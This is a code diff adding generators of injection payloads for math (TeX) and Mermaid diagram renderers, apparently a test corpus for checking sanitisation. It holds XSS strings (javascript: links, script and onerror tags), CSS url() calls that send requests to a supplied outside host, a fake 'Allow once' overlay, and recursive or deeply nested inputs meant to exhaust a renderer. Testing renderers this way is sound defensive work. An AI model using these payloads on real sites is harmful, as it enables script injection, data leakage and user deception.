@@ -184,3 +184,54 @@ export function styles({ js, url }: Bait): string[] {
     `<link rel="stylesheet" href="data:text/css,*{background:url(${url}/data)}">`,
   ];
 }
+
+/** Texts that would do something as mathematics or as diagrams, where these are more than words. */
+export function formulas({ js, url }: Bait): string[] {
+  const inside = [
+    `\\href{javascript:${js}}{x}`,
+    `\\url{${url}/url}`,
+    `\\includegraphics{${url}/x.png}`,
+    `\\class{dialog}{x} \\id{root}{x}`,
+    `\\style{position:fixed;inset:0;background:url(${url}/style)}{x}`,
+    `\\htmlStyle{background:url(${url}/style)}{x}`,
+    `\\data{onclick=${js}}{x}`,
+    `\\text{<img src=x onerror=${js}>}`,
+    `\\text{</mtext><script>${js}</script>}`,
+    `\\operatorname{"onload=${js}}`,
+    `\\color{red;background:url(${url}/color)}{x}`,
+    `\\texttip{x}{<b onclick=${js}>} \\toggle{a}{b}\\endtoggle`,
+    `\\unicode{x3c}script\\unicode{x3e}${js}`,
+    `\\char"3C \\verb|<script>${js}</script>|`,
+    `\\def\\x{\\href{javascript:${js}}}\\x{y}`,
+    `\\kern-900em \\rule{900em}{900em} \\raisebox{90em}{\\text{Allow once}}`,
+    `\\def\\a{\\a\\a}\\a`,
+    '\\frac{1}{'.repeat(180),
+  ];
+  return [...inside.map((tex) => `$${tex}$ \\(${tex}\\)`), ...inside.map((tex) => `\n\n$$\n${tex}\n$$\n`)];
+}
+
+export function diagrams({ js, url }: Bait): string[] {
+  const lines = [
+    `A["<script>${js}</script>"] --> B`,
+    `A["<img src=x onerror=${js}>"] --> B`,
+    `A["</text><foreignObject><iframe src='${url}/frame'></iframe></foreignObject>"]`,
+    `A --> B\n  click A "javascript:${js}"`,
+    `A --> B\n  click A href "${url}/click" _self\n  click B call ran()`,
+    `A --> B\n  style A fill:url(${url}/fill),stroke:red;background:url(${url}/x)`,
+    `A --> B\n  linkStyle 0 stroke:"/><script>${js}</script>`,
+    `A --> B\n  classDef x fill:#000" onload="${js}\n  class A x`,
+    `A -->|"' onclick='${js}"| B`,
+    `subgraph "x" onmouseover="${js}"\n  A --> B\n  end`,
+  ];
+  const flows = lines.map((line) => `flowchart LR\n  ${line}`);
+  const others = [
+    `%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "*{background:url(${url}/theme)}"}}%%\ngraph TD\n  A --> B`,
+    `---\nconfig:\n  securityLevel: loose\n---\ngraph TD\n  A --> B`,
+    `sequenceDiagram\n  participant A as <img src=x onerror=${js}>\n  A->>B: <script>${js}</script>\n  link A: x @ javascript:${js}`,
+    `classDiagram\n  class A {\n    +x "onload=${js}"\n  }\n  link A "javascript:${js}"`,
+    `erDiagram\n  A ||--o{ B : "</text><script>${js}</script>"`,
+    `xychart-beta\n  title "</text><script>${js}</script>"\n  x-axis ["' onload='${js}"]\n  bar [1]`,
+    `stateDiagram-v2\n  A --> B : <svg onload=${js}>`,
+  ];
+  return [...flows, ...others].map((source) => `\n\n\`\`\`mermaid\n${source}\n\`\`\`\n`);
+}
